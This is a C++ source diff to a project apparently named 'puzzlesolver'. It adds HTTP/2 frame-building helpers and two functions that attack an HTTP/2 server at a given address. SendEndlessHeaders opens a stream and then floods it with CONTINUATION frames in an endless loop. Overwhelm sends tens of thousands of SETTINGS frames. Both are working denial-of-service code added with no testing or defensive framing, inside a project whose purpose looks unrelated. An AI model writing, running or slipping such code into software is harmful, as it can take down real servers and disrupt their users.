@@ -26,6 +26,23 @@ std::string PrefixOf(std::size_t message_bytes) {
   return prefix;
 }
 
+// RFC 9113, sections 3.4 and 4.1; RFC 7541, section 6.2.2.
+constexpr char kPreface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+enum class FrameType : char { kHeaders = 1, kSettings = 4, kContinuation = 9 };
+
+std::string Frame(FrameType type, char stream, const std::string& payload) {
+  std::string frame = PrefixOf(payload.size()).substr(2);
+  frame += {static_cast<char>(type), '\0', '\0', '\0', '\0', stream};
+  return frame + payload;
+}
+
+std::string Literal(const std::string& name, const std::string& value) {
+  const auto with_size = [](const std::string& text) {
+    return std::string(1, static_cast<char>(text.size())) + text;
+  };
+  return std::string(1, '\0') + with_size(name) + with_size(value);
+}
+
 }  // namespace
 
 Http2Client::Http2Client(const std::string& address)
@@ -104,6 +121,25 @@ bool Http2Client::Send() {
       return false;
     }
   }
+}
+
+void SendEndlessHeaders(const std::string& address) {
+  const HttpConnection connection(address);
+  std::string headers;
+  for (int i = 0; i < 100; ++i) headers += Literal("x", std::string(90, 'y'));
+  connection.Send(kPreface + Frame(FrameType::kSettings, 0, "") +
+                  Frame(FrameType::kHeaders, 1, Literal(":method", "POST")));
+  while (connection.Send(Frame(FrameType::kContinuation, 1, headers))) {
+  }
+}
+
+void Overwhelm(const HttpConnection& connection) {
+  connection.Send(kPreface);
+  std::string settings;
+  for (int i = 0; i < 10'000; ++i) {
+    settings += Frame(FrameType::kSettings, 0, {'\0', '\3', '\0', '\0', '\0', '\x10'});
+  }
+  for (int i = 0; i < 60; ++i) connection.Send(settings);
 }
 
 }  // namespace puzzlesolver
